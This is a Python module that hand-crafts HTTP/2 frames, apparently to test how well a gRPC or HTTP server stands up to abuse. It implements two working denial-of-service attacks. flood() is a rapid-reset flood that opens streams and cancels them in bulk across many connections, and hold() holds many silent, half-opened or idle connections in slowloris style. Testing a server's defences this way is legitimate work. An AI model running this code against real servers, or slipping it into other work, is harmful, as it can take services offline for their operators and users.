"""Just enough of HTTP/2 (RFC 9113) to misuse it: frames by hand, headers without compression."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import struct
import time

from .load import GENERATE

__all__ = [
    "ACK",
    "DATA",
    "END_HEADERS",
    "END_STREAM",
    "HEADERS",
    "PING",
    "PREFACE",
    "SETTINGS",
    "call_headers",
    "flood",
    "frame",
    "hold",
]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
ACK = END_STREAM = 1
END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
_BATCH = 50


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Write a frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def call_headers(authority: str) -> bytes:
    """Encode the headers of a call as literals that no table remembers (RFC 7541, 6.2.2)."""
    pairs = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", GENERATE),
        (":authority", authority),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    )
    parts = []
    for pair in pairs:
        parts.append(b"\x00" + b"".join(bytes([len(text)]) + text.encode() for text in pair))
    return b"".join(parts)


def hold(address: str, page: str, count: int, seconds: float) -> dict[str, list[float | None]]:
    """Open connections that ask for nothing; return when each was closed by the server.

    Kinds: "silent" says nothing, "half" begins the preface, "idle" greets and falls silent, "http"
    sends half a header to the HTTP door.

    Returns:
        Seconds from the opening to the close of each, by kind; None = still open at the end.
    """
    door = page.split("//")[1].strip("/")
    kinds = {"silent": b"", "half": PREFACE[:9], "idle": PREFACE + frame(SETTINGS, 0, 0)}
    return asyncio.run(_hold(address, door, kinds, count, seconds))


async def _hold(
    address: str, door: str, kinds: dict[str, bytes], count: int, seconds: float
) -> dict[str, list[float | None]]:
    async def one(where: str, first: bytes) -> float | None:
        host, port = where.rsplit(":", 1)
        reader, writer = await asyncio.open_connection(host, int(port))
        began = time.monotonic()
        writer.write(first)
        try:
            while await asyncio.wait_for(reader.read(4096), began + seconds - time.monotonic()):
                if first.startswith(PREFACE):
                    writer.write(frame(SETTINGS, ACK, 0))
        except TimeoutError:
            return None
        except OSError:
            pass
        finally:
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()
        return time.monotonic() - began

    plan = [(kind, address, first) for kind, first in kinds.items() for _ in range(count * 3 // 10)]
    half = b"POST /v1/responses HTTP/1.1\r\nHost: x\r\nContent-Le"
    plan += [("http", door, half)] * (count - len(plan))
    times = await asyncio.gather(*(one(where, first) for _, where, first in plan))
    found: dict[str, list[float | None]] = {}
    for (kind, _, _), at in zip(plan, times, strict=True):
        found.setdefault(kind, []).append(at)
    return found


def flood(address: str, count: int) -> dict[str, float]:
    """Begin calls and reset them at once, on one connection after another, as fast as may be.

    Returns:
        How many resets, over how many connections, in how many seconds.
    """
    began, done, opened = time.monotonic(), 0, 0
    while done < count:
        opened += 1
        with contextlib.suppress(OSError):
            done += _flood_one(address, count - done)
    return {"resets": done, "connections": opened, "seconds": time.monotonic() - began}


def _flood_one(address: str, count: int) -> int:
    """Flood one connection until enough is done or the server has had enough of it."""
    host, port = address.rsplit(":", 1)
    headers, done = call_headers(address), 0
    message = b"\x00\x00\x00\x00\x00"
    with socket.create_connection((host, int(port))) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        connection.setblocking(False)
        unread = b""
        for first in range(0, count, _BATCH):
            parts = []
            for number in range(first, min(count, first + _BATCH)):
                stream = 2 * number + 1
                parts.append(frame(HEADERS, END_HEADERS, stream, headers))
                parts.append(frame(DATA, END_STREAM, stream, message))
                parts.append(frame(RESET, 0, stream, _CANCEL))
            try:
                _send(connection, b"".join(parts))
                unread, closing = _answer(connection, unread)
            except OSError:
                return done
            done += len(parts) // 3
            if closing:
                return done
        _wait_until_read(connection, unread)
    return done


def _wait_until_read(connection: socket.socket, unread: bytes) -> None:
    """Wait until the server has come to the end of what was sent: it then answers a ping."""
    mark = b"the end."
    connection.setblocking(True)
    connection.settimeout(60)
    connection.sendall(frame(PING, 0, 0, mark))
    while frame(PING, ACK, 0, mark) not in unread:
        received = connection.recv(1 << 16)
        if not received:
            return
        unread = unread[-32:] + received


def _send(connection: socket.socket, payload: bytes) -> None:
    view = memoryview(payload)
    while view:
        try:
            view = view[connection.send(view) :]
        except BlockingIOError:
            time.sleep(0.0005)


def _answer(connection: socket.socket, unread: bytes) -> tuple[bytes, bool]:
    """Acknowledge settings and pings, as a peer must; say whether the server wants to close."""
    with contextlib.suppress(BlockingIOError):
        while received := connection.recv(1 << 16):
            unread += received
        return unread, True
    closing = False
    while len(unread) >= 9:
        size, kind, flags = int.from_bytes(unread[:3], "big"), unread[3], unread[4]
        if len(unread) < 9 + size:
            break
        payload, unread = unread[9 : 9 + size], unread[9 + size :]
        if kind in (SETTINGS, PING) and not flags & ACK:
            _send(connection, frame(kind, ACK, 0, payload if kind == PING else b""))
        closing |= kind == GOAWAY
    return unread, closing
